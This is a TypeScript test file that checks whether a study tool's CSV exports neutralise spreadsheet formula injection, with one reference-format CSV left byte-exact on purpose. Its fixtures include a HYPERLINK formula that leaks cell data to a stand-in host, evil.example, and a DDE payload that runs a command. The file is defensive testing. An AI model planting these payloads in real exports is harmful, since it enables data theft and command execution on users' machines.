/**
 * Every CSV meant for a spreadsheet goes through the one neutraliser (app/formats/spreadsheet-safe.ts), while the
 * reference-format data.csv stays byte-exact (docs/security.md, "Spreadsheet exports").
 */
import { describe, expect, it } from "vitest";
import { parsePythonCsv as parseCsv } from "../../app/formats/csv-text";
import { judgeLabelsCsv } from "../../app/judge-validation/domain/judge-report";
import { parseJudgeLabelsCsv } from "../../app/judge-validation/domain/judge-labels-csv";
import { serializeReleasedCsv } from "../../app/gold/domain/safe-psych-serialize";
import { chartCsv, type ReportChart } from "../../app/study-report/domain/study-report-charts";
import { annotatorKeyCsv, annotatorSheetCsv } from "../../app/judge-validation/domain/validation-set";

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const DDE = "-2+3+cmd|' /C calc'!A0";

const row = {
  annotation_id: "ann_0001",
  model_evaluated: "@SUM(A1:A2)",
  strategy: "+cmd|' /C calc'!A0",
  step_index: 1,
  is_last_section: false,
  model_output_raw: HYPERLINK,
};

describe("judge-validation sheets", () => {
  it("annotator-sheet.csv quotes a formula in the model's output", () => {
    const cells = parseCsv(annotatorSheetCsv([row]).replace(/^\uFEFF/, ""))[1]!;
    expect(cells[3]).toBe("'" + HYPERLINK);
  });

  it("key.csv quotes formulas in every column", () => {
    const [header, cells] = parseCsv(annotatorKeyCsv([row]).replace(/^\uFEFF/, ""));
    const at = (c: string) => cells![header!.indexOf(c)];
    expect(at("model_evaluated")).toBe("'@SUM(A1:A2)");
    expect(at("strategy")).toBe("'+cmd|' /C calc'!A0");
    expect(at("model_output_raw")).toBe("'" + HYPERLINK);
  });

  it("labels.csv quotes a formula-like rater name, and judge-report --labels reads the name back unchanged", () => {
    const labels = [
      { responseId: "ann_0001", rater: "-odd.name", primaryAnswer: "committed" as const, infoRequest: "none" as const },
    ];
    const csv = judgeLabelsCsv(labels);
    expect(parseCsv(csv)[1]![1]).toBe("'-odd.name");
    const back = parseJudgeLabelsCsv(csv);
    expect(back.errors).toEqual([]);
    expect(back.labels[0]).toMatchObject({ responseId: "ann_0001", rater: "-odd.name" });
  });
});

describe("statistics CSVs", () => {
  it("quote a formula-like label and keep negative coefficients as numbers", () => {
    const chart = {
      id: "x",
      title: "",
      caption: "",
      fields: ["label", "kappa"],
      rows: [{ label: DDE, kappa: -0.25 }],
      spec: {},
    } as unknown as ReportChart;
    expect(parseCsv(chartCsv(chart))[1]).toEqual(["'" + DDE, "-0.25"]);
  });
});

describe("reference-format data.csv", () => {
  it("is written byte-exact, formulas and all: other programs read it, not spreadsheets", () => {
    const record = {
      id: "=1+1",
      age_group: "@x",
      sex: "-",
      diagnosis_sufficiency: "1",
      diagnosis_sufficiency_agreement: "",
      diagnosis: "F32.1",
      diagnosis_agreement: "",
      earliest_sufficient_section: "1",
      num_sections_in_input: 3,
      last_section_order: 3,
      sections_metadata: [
        {
          section_name: "presenting_symptoms",
          original_order: 1,
          present: true,
          assigned_order: 1,
          content: HYPERLINK,
        },
        { section_name: "psychiatric_history", original_order: 2, present: true, assigned_order: 2, content: DDE },
        { section_name: "psychiatric_exam", original_order: 3, present: true, assigned_order: 3, content: "+x" },
        { section_name: "psychological_exam", original_order: 4, present: false, assigned_order: null, content: "" },
        { section_name: "secondary_diagnoses", original_order: 5, present: false, assigned_order: null, content: "" },
      ],
    };
    const csv = serializeReleasedCsv([record as never]);
    expect(csv).not.toContain("'=");
    expect(csv).toContain(`"${HYPERLINK.replace(/"/g, '""')}"`);
    expect(csv).toContain(DDE);
  });
});
